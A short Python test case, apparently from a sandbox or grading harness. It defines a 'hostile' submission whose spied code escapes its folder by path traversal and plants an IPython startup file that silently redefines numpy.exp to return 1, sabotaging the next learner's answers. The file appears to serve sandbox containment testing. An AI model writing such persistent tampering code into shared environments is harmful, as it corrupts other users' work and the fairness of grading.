"""A start-up file for IPython spoils the next learner's answers."""

KIND, GROUP = "hostile", "sandbox"
DESERVED = 0


def apply(s):
    s.wrong()
    s.spy("""
import os
for top in ("~/.ipython/profile_default/startup", "../../../.ipython/profile_default/startup"):
    try:
        folder = os.path.expanduser(top)
        os.makedirs(folder, exist_ok=True)
        open(folder + "/00-next.py", "w").write("import numpy as np\\nnp.exp = lambda x: x * 0 + 1\\n")
    except OSError:
        pass
""")
